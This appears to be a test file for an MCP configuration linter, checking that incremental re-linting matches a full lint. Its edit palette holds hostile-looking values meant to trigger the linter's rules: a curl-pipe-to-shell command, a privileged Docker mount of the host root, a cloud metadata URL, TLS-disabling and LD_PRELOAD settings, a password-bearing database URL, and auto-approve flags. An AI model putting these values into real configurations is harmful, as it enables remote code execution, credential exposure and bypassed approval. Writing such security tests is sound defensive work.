import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, type Analysis, type Finding } from '../../../server/src/engine';
import { changedRegion, confinedServerIndex, entrySpan } from '../../../server/src/engine/incremental';
import { RULES } from '../../../server/src/rules';
import type { Rule } from '../../../server/src/rules/types';
import type { TreeNode } from '../../../server/src/parse/tree';
import { loadCorpus, loadFixtures, type SampleFile } from '../../fuzz/lib/corpus';
import { createPrng } from '../../fuzz/lib/prng';
import { makeSecret } from '../../fuzz/lib/arbitraries';
import { generateConfig } from '../../../bench/generate';

/**
 * The language server re-lints an edit inside one server entry incrementally
 * (engine/incremental.ts): per-server rules run on that server only and the other servers'
 * findings move over. This suite is the proof that it changes nothing: on real and
 * generated configs, chains of edits inside random server entries give exactly the
 * findings (ranges, messages, severities, fixes and their edits) of a full lint.
 */

/** Strings an edit writes into a server entry: launchers, packages, paths, secrets, transports, names. */
function palette(random: () => number): string[] {
  return [
    'npx', '-y', 'uvx', 'docker', 'run', '--privileged', '-v', '/:/host', 'node', 'bash', '-c', 'curl https://x.example/i.sh | sh',
    '@modelcontextprotocol/server-filesystem', '@modelcontextprotocol/server-github', '@modelcontextprotocol/server-postgres', 'mcp-server-fetch', 'mcp-server-fetch==2025.1.1',
    'some-tool@latest', 'some-tool@1.2.3', 'ghcr.io/github/github-mcp-server:latest', '/', '~', '/home/dev/project', '${workspaceFolder}',
    makeSecret(0, Math.floor(random() * 1e9)), makeSecret(2, Math.floor(random() * 1e9)), makeSecret(7, Math.floor(random() * 1e9)),
    'postgresql://app:hunter2hunter2@db.internal:5432/app', 'Bearer abc', '${input:token}', '${env:GITHUB_TOKEN}', '${GITHUB_TOKEN}',
    'http://0.0.0.0:3000/mcp', 'https://api.example.com/mcp', 'http://169.254.169.254/latest', 'stdio', 'sse', 'http', '*', 'true',
    'GITHUB_PERSONAL_ACCESS_TOKEN', 'API_KEY', 'LD_PRELOAD', 'NODE_TLS_REJECT_UNAUTHORIZED', '0', 'alwaysAllow', 'autoApprove', 'command', 'args', 'env', 'url',
  ];
}

/** String nodes (values and keys) inside a server entry. */
function stringNodes(node: TreeNode, out: TreeNode[] = []): TreeNode[] {
  if (node.type === 'string') out.push(node);
  for (const child of node.children ?? []) stringNodes(child, out);
  return out;
}

/** One edit inside a random server entry: a string (or key) replaced by a palette value, another server's string or name, or a typed character. */
function editInsideServer(analysis: Analysis, random: () => number): string | undefined {
  const servers = analysis.config.servers;
  if (servers.length === 0) return undefined;
  const server = servers[Math.floor(random() * servers.length)];
  const { start, end } = entrySpan(server);
  const text = analysis.doc.text;
  const targets = [server.nameNode, ...stringNodes(server.node)].filter((node) => node.type === 'string' && node.offset >= start && node.offset + node.length <= end);
  if (targets.length === 0) return undefined;
  const target = targets[Math.floor(random() * targets.length)];
  const other = servers[Math.floor(random() * servers.length)];
  const otherStrings = stringNodes(other.node).map((node) => String(node.value));
  const choices = [...palette(random), other.name, ...otherStrings];
  const kind = random();
  let value: string;
  if (kind < 0.15) value = `${String(target.value)}${'abcxyz0-._@/'[Math.floor(random() * 12)]}`;
  else if (kind < 0.25) value = String(target.value).slice(0, -1);
  else value = choices[Math.floor(random() * choices.length)];
  return text.slice(0, target.offset) + JSON.stringify(value) + text.slice(target.offset + target.length);
}

/** A finding as plain data, deferred fix edits included, in a stable order. */
function normalise(findings: readonly Finding[]): string[] {
  return findings.map((finding) => JSON.stringify({ ...finding, fixes: finding.fixes.map((fix) => ({ title: fix.title, safe: fix.safe, preferred: fix.preferred, edits: fix.edits })) })).sort();
}

function jsonFiles(): SampleFile[] {
  const generated = [10, 30].map((n, i) => ({ name: `generated ${n} servers`, lintPath: `/p/gen${i}/.vscode/mcp.json`, text: generateConfig(n, 7 + i) }));
  const real = [...loadCorpus(), ...loadFixtures()].filter((file) => {
    const analysis = analyze(file.text, file.lintPath);
    return analysis && analysis.doc.syntax === 'json' && analysis.doc.problems.length === 0 && analysis.config.servers.length > 0;
  });
  return [...generated, ...real];
}

test('incremental re-lints give the findings of a full lint, over chains of edits inside server entries', () => {
  const random = createPrng(20261202);
  let edits = 0;
  let confined = 0;
  const files = jsonFiles();
  assert.ok(files.length >= 20, `only ${files.length} JSON configs to edit`);
  for (const file of files) {
    let previous = analyze(file.text, file.lintPath)!;
    for (let step = 0; step < 12; step++) {
      const text = editInsideServer(previous, random);
      if (text === undefined) break;
      const full = analyze(text, file.lintPath);
      const incremental = analyze(text, file.lintPath, undefined, { previous });
      if (!full || !incremental) {
        assert.equal(incremental, full, `${file.name} step ${step}`);
        break;
      }
      edits++;
      const region = changedRegion(previous.doc.text, text);
      if (region && confinedServerIndex(previous, full.doc, full.config, region) !== undefined) confined++;
      assert.deepEqual(normalise(incremental.findings), normalise(full.findings), `${file.name}, edit ${step + 1}`);
      // Chain: the next edit starts from the incremental result, as in the language server.
      previous = incremental;
    }
  }
  // The point is to exercise the incremental path, not the full-lint fallback.
  assert.ok(edits > 500, `${edits} edits`);
  assert.ok(confined / edits > 0.8, `${confined} of ${edits} edits were linted incrementally`);
});

test('per-server rules are most of the catalogue (otherwise incremental linting saves little)', () => {
  const perServer = RULES.filter((rule) => rule.meta.scope === 'server').length;
  assert.ok(perServer >= 40, `${perServer} of ${RULES.length} rules are per server`);
});

test('an edit outside every server entry, a syntax error or a new server takes a full lint', () => {
  const path = '/p/.vscode/mcp.json';
  const text = '{\n  "inputs": [],\n  "servers": {\n    "a": { "command": "npx", "args": ["-y", "pkg"] },\n    "b": { "command": "uvx", "args": ["tool"] }\n  }\n}\n';
  const previous = analyze(text, path)!;
  const cases = {
    outside: text.replace('"inputs": []', '"inputs": [ ]'),
    'syntax error': text.replace('"pkg"]', '"pkg"'),
    'new server': text.replace('"b":', '"c": { "command": "node" },\n    "b":'),
  };
  for (const [label, changed] of Object.entries(cases)) {
    const now = analyze(changed, path)!;
    const region = changedRegion(text, changed)!;
    assert.equal(confinedServerIndex(previous, now.doc, now.config, region), undefined, label);
    assert.deepEqual(normalise(analyze(changed, path, undefined, { previous })!.findings), normalise(now.findings), label);
  }
  const inside = text.replace('"pkg"', '"pkg@1.0.0"');
  const now = analyze(inside, path)!;
  assert.equal(confinedServerIndex(previous, now.doc, now.config, changedRegion(text, inside)!), 0);
});

test('a rule that breaks the per-server promise shows up as a difference (what this suite guards against)', () => {
  // Marked per server, but each finding depends on the other servers (how many use npx).
  const crossServer: Rule = {
    id: 'cross-server-probe',
    meta: { category: 'other', scope: 'server', defaultSeverity: 'information', description: 'test', fixable: false, owasp: [], threat: 'test' },
    check(context) {
      const npx = context.config.servers.filter((s) => s.command?.value === 'npx').length;
      for (const server of context.config.servers) context.report({ node: server.nameNode, server, message: `${npx} npx servers` });
    },
  };
  const path = '/p/.vscode/mcp.json';
  const text = '{"servers": {"a": {"command": "npx"}, "b": {"command": "npx"}}}';
  const previous = analyze(text, path, undefined, { rules: [crossServer] })!;
  const edited = text.replace('"npx"}', '"uvx"}');
  const full = analyze(edited, path, undefined, { rules: [crossServer] })!;
  const incremental = analyze(edited, path, undefined, { rules: [crossServer], previous })!;
  assert.deepEqual(full.findings.map((f) => f.message), ['1 npx servers', '1 npx servers']);
  // The edited server sees only itself, the other keeps its stale count.
  assert.deepEqual(incremental.findings.map((f) => f.message), ['0 npx servers', '2 npx servers']);
});
